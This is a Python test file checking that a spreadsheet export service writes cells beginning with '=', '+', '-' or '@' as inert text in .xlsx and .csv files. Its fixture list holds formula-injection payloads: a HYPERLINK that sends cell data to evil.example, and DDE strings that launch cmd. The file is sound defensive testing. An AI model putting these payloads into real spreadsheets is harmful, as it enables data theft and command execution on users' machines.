"""Exports never carry a live formula: a name typed as `=HYPERLINK(…)` reaches the spreadsheet as that text
(.xlsx: a string cell with the quote prefix; .csv: a leading apostrophe), numbers stay numbers."""
import csv
import io

from openpyxl import Workbook, load_workbook

from services.common.exports import csv_value, is_formula_like, restore, write_csv, write_xlsx, xlsx_row

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
HOSTILE = [LINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "＝HYPERLINK(\"http://evil.example\")", "#REF!"]


def read_back(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in sheet.iter_rows()]


def test_xlsx_cells_show_the_literal_text_and_are_never_formulas():
    data = write_xlsx("网站", ["网站名称", "数值", "电话"], [[text, -5, "-"] for text in HOSTILE]
                      + [["渭南市人民政府", 3.5, "0913-2930000"]])
    rows = read_back(data)
    assert rows[0] == [("网站名称", "s", False), ("数值", "s", False), ("电话", "s", False)]
    for text, row in zip(HOSTILE, rows[1:], strict=False):
        value, data_type, quoted = row[0]
        assert value == text and data_type == "s" and quoted  # what a spreadsheet shows: the text itself
        assert row[1] == (-5, "n", False) and row[2] == ("-", "s", False)  # numbers stay numbers
    assert rows[-1] == [("渭南市人民政府", "s", False), (3.5, "n", False), ("0913-2930000", "s", False)]
    # and no formula element anywhere in the sheet's XML
    import zipfile
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_without_the_neutraliser_openpyxl_would_write_a_formula():
    """The premise: a plain str that starts with "=" becomes a formula cell."""
    workbook = Workbook()
    workbook.active.append([LINK])
    out = io.BytesIO()
    workbook.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).active["A1"].data_type == "f"


def test_a_normal_sheet_gets_typed_cells_too():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, [LINK, 7]))
    sheet.append(xlsx_row(sheet, ["普通名称", 8]))
    out = io.BytesIO()
    workbook.save(out)
    assert read_back(out.getvalue()) == [[(LINK, "s", True), (7, "n", False)],
                                         [("普通名称", "s", False), (8, "n", False)]]


def test_csv_fields_get_a_leading_apostrophe_and_numbers_do_not():
    body = write_csv(["网站名称", "数值"], [[text, -5] for text in HOSTILE] + [["-", "-12.5"], ["'=x", 0]])
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    for text, row in zip(HOSTILE, rows[1:], strict=False):
        expected = "'" + text if text != "#REF!" else text  # an error literal is text in a CSV
        assert row == [expected, "-5"]
    assert rows[-2] == ["-", "-12.5"]  # a placeholder and a number are not formulas
    assert rows[-1] == ["''=x", "0"]  # an apostrophe already there is kept, so the value round-trips


def test_restore_undoes_the_csv_prefix_only():
    for text in [*HOSTILE, "-", "-12.5", "'=x", "普通", "'普通"]:
        assert restore(csv_value(text)) == text
    assert not is_formula_like("-3.5e2") and not is_formula_like("---") and is_formula_like("-A1")
